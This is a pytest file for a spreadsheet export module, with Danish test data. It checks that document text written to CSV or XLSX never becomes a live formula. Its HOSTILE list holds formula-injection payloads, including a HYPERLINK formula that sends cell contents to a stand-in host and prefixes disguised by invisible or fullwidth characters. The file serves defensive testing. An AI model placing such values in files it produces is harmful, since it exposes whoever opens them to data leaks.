"""Spreadsheets open as people expect, and nothing that a document says becomes a formula."""

from __future__ import annotations

import csv
import datetime
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.spreadsheet import LONGEST, Table, csv_text, is_formula, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://ond.example/?"&A1;"Klik her")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x1b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹢1+1",
    "﹣1+1",
    "−1+1",
]
INNOCENT = ["Nytteindsats", "14/1175", "1. Godkendt", "a=b", "", "»=«", "2-3 år"]
ODD = ["#N/A", "#REF!", "TRUE", "1e5", "2024-01-01", "12-1999", "0012", "_x003D_1+1", "æøå ÆØÅ"]


def table(*titles):
    rows = [(title, datetime.date(2024, 2, 6), 3, None) for title in titles]
    return Table("Beslutninger", ("Titel", "Dato", "Side", "Bemærkning"), rows)


def read_csv(text):
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.fixture
def opened(tmp_path):
    def write_and_open(made):
        path = tmp_path / "ark.xlsx"
        write_xlsx(made, path)
        return openpyxl.load_workbook(path)

    return write_and_open


@pytest.mark.parametrize("title", HOSTILE)
def test_a_title_that_begins_a_formula_is_told(title):
    assert is_formula(title)


@pytest.mark.parametrize("title", INNOCENT)
def test_a_title_that_begins_none_is_left_as_it_is(title):
    assert not is_formula(title)
    assert read_csv(csv_text(table(title)))[1][0] == title


@pytest.mark.parametrize("title", HOSTILE)
def test_a_hostile_title_is_text_in_csv(title):
    cell = read_csv(csv_text(table(title)))[1][0]
    assert cell.startswith("'")
    assert "\r" not in cell
    assert "\t" not in cell


@pytest.mark.parametrize("title", [*HOSTILE, *INNOCENT[:-3], *ODD])
def test_every_title_is_text_in_a_workbook(opened, title):
    cell = opened(table(title)).active["A2"]
    assert cell.data_type == "s"
    assert cell.hyperlink is None
    assert cell.quotePrefix == is_formula(title)


@given(st.text(max_size=40))
def test_no_text_at_all_begins_a_formula_in_csv(title):
    cell = read_csv(csv_text(table(title)))[1][0]
    assert not is_formula(cell)
    assert len(read_csv(csv_text(table(title)))) == 2


@given(st.lists(st.text(max_size=40), min_size=1, max_size=20))
def test_no_text_at_all_is_a_formula_in_a_workbook(tmp_path_factory, titles):
    path = tmp_path_factory.mktemp("ark") / "ark.xlsx"
    write_xlsx(table(*titles), path)
    sheet = openpyxl.load_workbook(path).active
    for number, title in enumerate(titles, start=2):
        cell = sheet.cell(number, 1)
        assert cell.data_type == "s" if title else cell.value is None


def test_dates_and_numbers_are_dates_and_numbers_in_a_workbook(opened):
    sheet = opened(table("Nytteindsats")).active
    assert sheet["B2"].is_date
    assert sheet["B2"].value == datetime.datetime(2024, 2, 6)  # noqa: DTZ001  as openpyxl gives it
    assert sheet["C2"].value == 3
    assert sheet["D2"].value is None


def test_the_headings_of_a_workbook_stay_in_sight_and_columns_fit(opened):
    sheet = opened(table("En titel på omkring fyrre tegn, som fylder", "kort")).active
    assert sheet.title == "Beslutninger"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:D3"
    assert [cell.value for cell in sheet[1]] == ["Titel", "Dato", "Side", "Bemærkning"]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.column_dimensions["A"].width > sheet.column_dimensions["C"].width


def test_a_workbook_of_no_rows_has_its_headings(opened):
    assert opened(table()).active.max_row == 1


def test_a_text_too_long_for_a_cell_is_cut_and_says_so(opened):
    value = opened(table("å" * 40_000)).active["A2"].value
    assert len(value) == LONGEST
    assert value.endswith("…")


def test_csv_keeps_separators_quotes_and_lines_of_a_text_within_its_cell():
    title = 'Sagen; "Diget"\nog mere'
    rows = read_csv(csv_text(table(title)))
    assert rows[1] == [title, "2024-02-06", "3", ""]
